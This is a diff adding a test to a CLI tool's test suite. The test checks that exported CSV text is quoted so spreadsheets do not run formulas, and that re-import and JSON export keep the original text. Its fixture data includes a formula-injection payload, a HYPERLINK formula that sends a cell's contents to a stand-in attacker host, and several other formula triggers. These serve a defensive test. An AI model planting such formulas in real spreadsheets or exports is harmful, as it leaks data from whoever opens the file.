@@ -347,3 +347,31 @@ def test_writing_into_a_folder_that_is_not_there_is_one_sentence(cli, tmp_path):
         shown = " ".join(result.output.split())
         assert f"Cannot write {command[-1]}: there is no folder {tmp_path / 'nope'}" in shown
     assert not (tmp_path / "nope").exists()
+
+
+def test_a_csv_export_runs_no_formula_in_excel_and_imports_back_as_stored(cli, tmp_path):
+    texts = [
+        '=HYPERLINK("http://evil.example/?d="&A1,"refund approval is slow")',
+        "@SUM(1+1) hold times are long",
+        "+1 for the returns label",
+        "- tracking link broken",
+        "'=already quoted by someone",
+        "refund approval takes days",
+    ]
+    source = write_csv(tmp_path / "past.csv", ["author", "text"], [["-dana", text] for text in texts])
+    assert cli("import", str(source)).exit_code == 0
+    rows = exported(cli)
+    assert [r["text"] for r in rows] == [
+        '\'=HYPERLINK("http://evil.example/?d="&A1,"refund approval is slow")',
+        "'@SUM(1+1) hold times are long",
+        "'+1 for the returns label",
+        "'- tracking link broken",
+        "''=already quoted by someone",
+        "refund approval takes days",
+    ]
+    assert {r["author"] for r in rows} == {"'-dana"}
+    (tmp_path / "export.csv").write_text(cli("export").stdout, encoding="utf-8")
+    again = cli("import", str(tmp_path / "export.csv"))
+    assert "imported 0, already there 6, bad 0" in again.stdout, again.output
+    stored = exported(cli, "json")  # JSON is not opened as a sheet: as stored
+    assert [r["text"] for r in stored] == texts and {r["author"] for r in stored} == {"-dana"}
